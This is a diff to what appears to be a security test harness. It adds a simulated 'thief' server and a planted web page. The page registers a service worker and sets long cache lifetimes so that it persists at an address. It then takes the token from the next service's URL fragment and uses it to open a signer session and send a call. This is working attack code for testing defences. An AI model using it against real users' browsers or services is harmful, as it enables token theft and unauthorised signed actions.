@@ -36,23 +36,50 @@ PAGE = """<!doctype html><title>a page</title><script>
 })();
 </script><body></body>"""
 
+# A page that stays in the browser when the thief's server has ended, and takes the token of the next address there.
+PLANTED = """<!doctype html><title>a page</title><script>
+(async () => {
+  const post = async (path, body, more) => (await fetch(path, {
+    method: "POST", headers: {"Content-Type": "application/json", ...more}, body: JSON.stringify(body)})).json();
+  const token = location.hash.split("token=")[1];
+  if (token) {
+    const {session} = await post("signer/session", {token});
+    await post("signer", CALL, {"X-Grid-Signer": session});
+    document.title = "took the token";
+  } else {
+    await navigator.serviceWorker.register("worker.js");
+    await navigator.serviceWorker.ready;
+    document.title = "planted";
+  }
+})();
+</script>"""
+
 SERVER = """
 import http.server, json, sys
 seen = []
+WORKER = "const page = " + json.dumps(PAGE) + '''
+  oninstall = () => skipWaiting();
+  onfetch = (event) => {
+    if (event.request.mode === "navigate")
+      event.respondWith(new Response(page, {headers: {"Content-Type": "text/html"}}));
+  };'''
 class Server(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
         content = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
         if self.path != "/seen":
             seen.append([self.path, dict(self.headers), content])
-        answer = (json.dumps(seen) if self.path == "/seen" else PAGE).encode()
+        special = {"/seen": json.dumps(seen), "/worker.js": WORKER}
+        answer = special.get(self.path, PAGE).encode()
         self.send_response(200)
-        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Type", "text/javascript" if self.path == "/worker.js" else "text/html")
+        if self.path != "/seen":
+            self.send_header("Cache-Control", "public, max-age=31536000, immutable")
         self.send_header("Content-Length", str(len(answer)))
         self.end_headers()
         self.wfile.write(answer)
     do_POST = do_GET
     def log_message(self, *_): pass
-server = http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Server)
+server = http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), Server)
 print(server.server_port, flush=True)
 server.serve_forever()
 """
@@ -88,13 +115,13 @@ class WebThief:
 
 
 @contextmanager
-def thief_at(port: int = 0) -> Iterator[WebThief]:
-    """The thief's server at a port, until the context ends."""
+def thief_at(host: str, port: int = 0, page: str = PAGE) -> Iterator[WebThief]:
+    """The thief's server until the context ends. It shows `page` at each path. Accounts see where others listen."""
     become = ["setpriv", f"--reuid={THIEF.uid}", f"--regid={THIEF.uid}", "--clear-groups", "--"]
-    argv = [*become, PYTHON, "-c", f"PAGE = {PAGE!r}\n{SERVER}", str(port)]
+    argv = [*become, PYTHON, "-c", f"PAGE = {page!r}\n{SERVER}", host, str(port)]
     with subprocess.Popen(argv, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, stderr=sys.stderr) as server:
         try:
             assert server.stdout is not None
-            yield WebThief(f"http://127.0.0.1:{int(server.stdout.readline())}")
+            yield WebThief(f"http://{host}:{int(server.stdout.readline())}")
         finally:
             server.terminate()
